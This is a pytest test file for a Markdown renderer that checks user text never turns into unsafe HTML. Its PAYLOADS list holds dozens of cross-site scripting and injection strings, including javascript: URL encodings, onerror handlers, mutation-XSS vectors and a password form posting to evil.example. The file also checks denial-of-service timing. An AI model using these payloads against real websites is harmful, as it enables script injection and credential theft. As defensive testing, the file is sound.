"""Limited Markdown: what colleagues type never becomes markup of their choosing."""

import time
from html.parser import HTMLParser

import pytest

from stories.rendering import ALLOWED_TAGS, clean_markdown, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://example.org' onclick='alert(1)'>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org" onmouseover="alert(1))',
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x][ref]\n\n[ref]: https://evil.example/pixel.gif",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "**<b onmouseover=alert(1)>x</b>**",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "<p/onclick=alert(1)>x</p>",
    "<<script>alert(1)//<</script>",
    "\u2028<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<a\u00a0href=javascript:alert(1)>x</a>",
    "{{ user.password }} {% load x %}",
]


class Audit(HTMLParser):
    """Gathers what a browser would make of the text."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "**{}**", "- {}", "> {}", "tekst {} tekst", "[{}](https://example.org)"])
def test_no_payload_becomes_markup(payload, frame):
    audit = Audit(render_markdown(frame.format(payload)))
    assert audit.tags <= ALLOWED_TAGS
    for tag, name, value in audit.attributes:
        assert (tag, name) in {("a", "href"), ("a", "rel")}
        assert name != "href" or value.startswith("https://")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Het was **koud** en *laat*.", "<p>Het was <strong>koud</strong> en <em>laat</em>.</p>"),
        ("een\ntwee\n\ndrie", "<p>een<br>\ntwee</p>\n<p>drie</p>"),
        ("- een\n- twee", "<ul>\n<li>een</li>\n<li>twee</li>\n</ul>"),
        ("1. een\n2. twee", "<ol>\n<li>een</li>\n<li>twee</li>\n</ol>"),
        ("> gezegd", "<blockquote>\n<p>gezegd</p>\n</blockquote>"),
        ("# Kop\n\n### Kleine kop\n\n##### Nog kleiner", "<h2>Kop</h2>\n<h3>Kleine kop</h3>\n<h3>Nog kleiner</h3>"),
        (
            "[bron](https://example.org/?a=1&b=2)",
            '<p><a href="https://example.org/?a=1&amp;b=2" rel="nofollow noopener noreferrer">bron</a></p>',
        ),
        ("[hier](/nl/handboek/)", '<p><a href="/nl/handboek/" rel="nofollow noopener noreferrer">hier</a></p>'),
        ("[mail](mailto:a@b.nl)", '<p><a href="mailto:a@b.nl" rel="nofollow noopener noreferrer">mail</a></p>'),
        (
            "[daar](//evil.example) [zo](page.html)",
            '<p><a rel="nofollow noopener noreferrer">daar</a> <a rel="nofollow noopener noreferrer">zo</a></p>',
        ),
        ("5 < 6 & 7 > 6", "<p>5 &lt; 6 &amp; 7 &gt; 6</p>"),
        ("Łukasz, Şahin, 李雷, עברית", "<p>Łukasz, Şahin, 李雷, עברית</p>"),
        ("", ""),
    ],
)
def test_what_the_help_text_promises_works(text, html):
    assert render_markdown(text).strip() == html


def test_text_is_kept_without_control_characters_and_with_one_kind_of_line_end():
    assert clean_markdown("  een\r\ntwee\rdrie\x00\x07\u202e  ") == "een\ntwee\ndrie"
    assert clean_markdown("tab\tblijft") == "tab\tblijft"


@pytest.mark.parametrize("unit", ["[", "*", ">", "_a", "[a](", "![a", "`", "- ", "<", "*a ", "[x]: y\n", "a](b"])
def test_text_made_to_keep_the_server_busy_is_rendered_soon(unit):
    text = (unit * 20_000)[:20_000]
    started = time.process_time()
    render_markdown(text)
    assert time.process_time() - started < 3
